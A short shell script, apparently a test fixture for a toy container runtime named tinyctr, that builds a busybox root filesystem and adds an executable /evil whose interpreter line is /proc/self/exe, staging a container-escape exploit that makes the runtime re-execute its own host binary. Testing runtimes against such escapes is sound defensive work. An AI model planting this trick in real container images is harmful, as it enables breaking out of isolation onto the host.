# escape.sh ROOT: the busybox rootfs of rootfs.sh, plus the exploit's scripts: /evil,
# whose interpreter is /proc/self/exe (the kernel then runs the binary of the process
# that execs it: tinyctr's, when tinyctr execs it).
set -eu
here=$(cd "$(dirname "$0")" && pwd)
sh "$here/rootfs.sh" "$1"
printf '#!/proc/self/exe\n' >"$1/vm/rootfs/evil"
chmod 755 "$1/vm/rootfs/evil"
